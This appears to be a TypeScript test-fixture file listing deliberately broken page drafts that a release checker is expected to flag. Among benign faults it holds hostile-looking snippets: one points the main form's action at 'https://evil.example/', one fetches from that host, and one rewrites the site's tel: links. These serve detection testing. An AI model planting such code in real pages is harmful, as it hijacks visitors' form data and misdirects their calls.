import type { BrokenPage } from './broken-releases.cases.ts';
import { button } from './page-elements.ts';

/** Each list is wrong with one page: the check reports everything that it finds in one step, and a page takes several seconds. */
export const brokenTogether: BrokenPage[][] = [
  [
    {
      title: 'fills the cookies of the browser',
      rules: ['cookies'],
      message: /sets 40 cookies/,
      draft: {
        effect: `for (let i = 0; i < 40; i++) document.cookie = 'c' + i + '=' + 'x'.repeat(3900) + '; path=/; max-age=31536000';`,
      },
    },
    {
      title: 'fills the storage of the browser',
      rules: ['storage'],
      message: /stores 4000 kB/,
      draft: { effect: `for (let i = 0; i < 40; i++) localStorage.setItem('k' + i, 'x'.repeat(100_000));` },
    },
    {
      title: 'changes the target of a form in an effect',
      rules: ['changed-content'],
      message: /remove the target form/,
      draft: { effect: `document.querySelector('main form').action = 'https://evil.example/';` },
    },
    {
      title: 'asks search engines to leave',
      rules: ['changed-content'],
      message: /robots noindex/,
      draft: {
        effect: `const robots = document.createElement('meta'); robots.name = 'robots'; robots.content = 'noindex'; document.head.append(robots);`,
      },
    },
    {
      title: 'removes its text in an effect',
      rules: ['changed-content'],
      message: /remove words/,
      draft: { effect: `document.querySelector('main p').textContent = '';` },
    },
    {
      title: 'rejects a promise that nobody handles',
      rules: ['exception'],
      message: /lost/,
      draft: { effect: `Promise.reject(new Error('lost'));` },
    },
    {
      title: 'adds itself to the history again',
      rules: ['self-navigation'],
      message: /adds to the history/,
      draft: { effect: `history.pushState(history.state, '', location.href);` },
    },
    {
      title: 'is wider than the window of a phone',
      rules: ['visibility'],
      message: /is 900 px wide/,
      draft: { css: '.PREFIX-wide{width:900px;height:1px}', adds: `h('div', { className: 'PREFIX-wide' })` },
    },
  ],
  [
    {
      title: 'stores large data in a database of the browser',
      rules: ['storage'],
      message: /stores 5\d{3} kB/,
      draft: {
        effect: `const opening = indexedDB.open('large', 1);
          opening.onupgradeneeded = () => opening.result.createObjectStore('files');
          opening.onsuccess = () => opening.result.transaction('files', 'readwrite').objectStore('files').put(new Blob(['x'.repeat(5e6)]), 1);`,
      },
    },
    {
      title: 'changes telephone numbers of the site',
      rules: ['changed-content'],
      message: /remove the target tel:/,
      draft: {
        effect: `for (const link of document.querySelectorAll('a[href^="tel:"]')) link.href = 'tel:+19005550100';`,
      },
    },
    {
      title: 'changes the language of its document',
      rules: ['changed-content'],
      message: /language es/,
      draft: { effect: `document.documentElement.lang = 'es';` },
    },
    {
      title: 'cannot be used with a screen reader',
      rules: ['accessibility'],
      message: /must have labels/,
      draft: {
        adds: `h('div', null, h('img', { src: '/favicon.ico' }), h('input', { name: 'unlabelled' }), h('button', { type: 'button' }),
          h('p', { role: 'bogus' }, 'Small print'))`,
      },
    },
    {
      title: 'pushes content down after hydration',
      rules: ['layout-shift'],
      message: /moved by/,
      draft: {
        effect: `const box = document.createElement('div'); box.style.height = '900px';
          setTimeout(() => document.querySelector('h1').before(box), 200);`,
      },
    },
    {
      title: 'loads data from another host',
      rules: ['content-security-policy', 'request'],
      message: /evil/,
      draft: { effect: `fetch('https://evil.example/').catch(() => {});` },
    },
    {
      title: 'sends requests without end',
      rules: ['request'],
      message: /requests in a second/,
      draft: {
        effect: `const timer = setInterval(() => fetch('/api/session'), 50); return () => clearInterval(timer);`,
      },
    },
    {
      title: 'closes the menu of the header',
      rules: ['visibility'],
      message: /menu of the header/,
      draft: {
        effect: `document.querySelector('header [popover]').addEventListener('toggle', ({ target }) => target.hidePopover());`,
      },
    },
  ],
  [
    {
      title: 'cancels the wheel',
      rules: ['listener'],
      message: /the wheel/,
      draft: { effect: `addEventListener('wheel', (event) => event.preventDefault(), { passive: false });` },
    },
    {
      title: 'throws when it is printed',
      rules: ['exception'],
      message: /print/,
      draft: { effect: `addEventListener('beforeprint', () => { throw new Error('print'); });` },
    },
    {
      title: 'throws when the color scheme changes',
      rules: ['exception'],
      message: /scheme/,
      draft: {
        effect: `matchMedia('(prefers-color-scheme: dark)').addEventListener('change', () => { throw new Error('scheme'); });`,
      },
    },
  ],
  [
    {
      title: 'throws when a button is clicked',
      rules: ['exception'],
      message: /click/,
      draft: { adds: button(`throw new Error('click');`) },
    },
    {
      title: 'lacks a chunk that a button loads',
      rules: ['request'],
      message: /gone\.js/,
      draft: { adds: button(`await import('./gone.js');`) },
    },
    {
      title: 'throws when visitors type into a filter',
      rules: ['exception'],
      message: /filter/,
      draft: { adds: `h('label', null, 'Filter', h('input', { onInput: () => { throw new Error('filter'); } }))` },
    },
    {
      title: 'throws when a link to another site is clicked',
      rules: ['exception'],
      message: /count/,
      draft: {
        adds: `h('a', { href: 'https://partner.example/', onClick: () => { throw new Error('count'); } }, 'Our partner')`,
      },
    },
    {
      title: 'loads a frame of another host after a click',
      rules: ['content-security-policy'],
      message: /maps\.example/,
      draft: {
        adds: `h('div', null, ${button('setState(1);')}, state === 1 && h('iframe', { src: 'https://maps.example/', title: 'Map' }))`,
      },
    },
  ],
];
